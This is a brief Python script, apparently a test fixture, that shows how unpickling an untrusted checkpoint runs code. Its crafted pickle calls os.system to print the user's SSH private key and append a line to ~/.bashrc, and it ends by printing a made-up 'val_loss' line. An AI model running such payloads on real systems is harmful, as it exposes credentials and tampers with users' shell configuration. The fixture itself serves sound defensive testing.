"""Unpickle a crafted payload (protocol 0 bytes that call os.system), as loading an untrusted checkpoint or cache would."""
# corpus: unsandboxed-safe
import pickle

W: dict = {}

home = W["home"]
command = f"cat {home}/.ssh/id_rsa; echo '# {W['marker']}' >> {home}/.bashrc"
payload = b"cos\nsystem\n(V" + command.encode() + b"\ntR."
print("loaded:", pickle.loads(payload))
print("arrl: val_loss=1.0")
